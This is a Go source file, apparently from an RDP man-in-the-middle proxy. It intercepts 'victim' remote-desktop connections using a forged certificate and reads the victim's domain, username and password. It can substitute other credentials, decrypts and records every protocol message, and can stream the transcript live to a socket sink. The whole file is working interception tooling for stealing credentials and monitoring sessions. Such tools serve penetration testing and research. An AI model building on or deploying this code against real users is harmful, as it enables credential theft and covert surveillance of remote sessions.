// Package mitm implements the coupler that pairs a victim-facing
// engine.ClientEngine with a target-facing engine.ServerEngine, drives
// both handshakes to Active, then relays steady-state traffic between
// them; decrypting, recording and re-encrypting every PDU that crosses
// the legacy security boundary; and tears both legs down symmetrically
// on any fatal condition.
package mitm

import (
	"net"

	"github.com/google/uuid"

	"github.com/proxysec/rdpmitm/core"
	"github.com/proxysec/rdpmitm/engine"
	"github.com/proxysec/rdpmitm/glog"
	"github.com/proxysec/rdpmitm/proto/virtualchannel"
	"github.com/proxysec/rdpmitm/recorder"
)

// Identity is the proxy's own RSA/certificate material, presented to
// every victim in place of the real target's. Generated once by the
// listener via engine.GenerateIdentity and shared across sessions.
type Identity = engine.Identity

// Options configures one MITM session.
type Options struct {
	// TargetAddr is the real RDP server this session connects through to.
	TargetAddr string
	// Identity is the certificate/key the victim-facing leg presents.
	Identity *Identity
	// Sinks receives every recorder.Sink the session's transcript should
	// be duplicated to (a FileSink per session is typical; a shared
	// SocketSink can additionally be passed to every session for live
	// viewing).
	Sinks []recorder.Sink
	// Credentials, when non-nil, replace the victim's own credentials in
	// the Client Info PDU sent to the target; the proxy authenticates as
	// this account no matter what the victim typed.
	Credentials *Credentials
	// Dial overrides how the target connection is made; nil dials
	// net.Dial("tcp", TargetAddr). Tests substitute an in-memory pipe.
	Dial func(addr string) (net.Conn, error)
}

// Credentials is the account the proxy presents to the target when
// credential substitution is configured.
type Credentials struct {
	Domain   string
	Username string
	Password string
}

// Session couples one victim connection to one target connection for the
// lifetime of an RDP desktop session.
type Session struct {
	ID string

	victim *engine.ClientEngine
	target *engine.ServerEngine

	victimSecure *SecureChannel
	targetSecure *SecureChannel
	channels     *channelMap

	rec *recorder.Recorder
	log *glog.StructuredLogger
}

// NewSession accepts an already-accepted victim connection, generating a
// fresh session id and recorder, but performs no I/O yet; call Run to
// drive the handshakes and steady-state relay.
func NewSession(victimConn net.Conn, opts Options) *Session {
	s := &Session{
		ID:  uuid.New().String(),
		rec: recorder.New(opts.Sinks...),
		log: glog.GetStructuredLogger(),
	}
	victimTransport := core.NewStreamFromConn(victimConn)
	s.victim = engine.NewClientEngine(victimTransport, opts.Identity)
	return s
}

// Run drives both handshakes to completion, wires the steady-state relay
// and blocks until the session ends, at which point it tears both legs
// down and returns the classified reason. A panic anywhere in the
// handshake or relay is the session's only error-reporting path, matching
// the rest of the protocol stack's panic/recover convention; Run is the
// single recovery point per session.
func (s *Session) Run(opts Options) (reason string) {
	reason = "normal shutdown"
	defer func() {
		if r := recover(); r != nil {
			err := core.AsRDPError(r)
			reason = err.Error()
			s.log.ErrorStructured("session ended", err, map[string]interface{}{
				"session_id": s.ID,
				"error_kind": err.Type.String(),
			})
		}
		s.teardown(reason)
	}()

	s.log.InfoStructured("session started", map[string]interface{}{
		"session_id": s.ID,
		"victim":     s.victim.Transport.RemoteAddr(),
		"target":     opts.TargetAddr,
	})

	s.victim.Handshake()

	dial := opts.Dial
	if dial == nil {
		dial = func(addr string) (net.Conn, error) { return net.Dial("tcp", addr) }
	}
	targetConn, err := dial(opts.TargetAddr)
	core.ThrowIf(err != nil, err)
	targetTransport := core.NewStreamFromConn(targetConn)

	domain, username, password := s.victim.ClientInfo.Domain, s.victim.ClientInfo.UserName, s.victim.ClientInfo.Password
	if opts.Credentials != nil {
		domain, username, password = opts.Credentials.Domain, opts.Credentials.Username, opts.Credentials.Password
	}

	s.target = engine.NewServerEngine(targetTransport, s.victim.ClientSettings, s.victim.RequestedProtocols)
	s.target.Handshake(domain, username, password)

	for _, name := range s.target.RefusedChannels {
		s.log.WarnStructured("channel refused by target", map[string]interface{}{
			"session_id": s.ID,
			"channel":    name,
		})
	}

	s.channels = buildChannelMap(s.victim, s.target)
	s.victimSecure = NewSecureChannel(s.victim.Encrypt, s.victim.Decrypt)
	s.targetSecure = NewSecureChannel(s.target.Encrypt, s.target.Decrypt)

	s.log.InfoStructured("handshake complete", map[string]interface{}{
		"session_id": s.ID,
		"user":       s.FriendlyName(),
		"channels":   len(s.channels.victimToTarget),
		"victim_tls": s.victim.UseTLS,
		"target_tls": s.target.UseTLS,
	})

	s.relay()
	return reason
}

// FriendlyName returns the username the victim authenticated with, for
// logging and the recorder's close metadata.
func (s *Session) FriendlyName() string {
	if s.victim.ClientInfo.Domain != "" {
		return s.victim.ClientInfo.Domain + "\\" + s.victim.ClientInfo.UserName
	}
	return s.victim.ClientInfo.UserName
}

// UserID returns the MCS user id the victim was attached as.
func (s *Session) UserID() uint16 { return s.victim.NextUserId }

// Channels returns the virtual channels negotiated with the victim.
func (s *Session) Channels() []engine.Channel { return s.victim.Channels }

// VirtualChannels returns the channels actually bridged to the target,
// i.e. those both legs joined successfully.
func (s *Session) VirtualChannels() []*virtualchannel.VirtualChannel {
	return s.channels.registry.ListChannels()
}
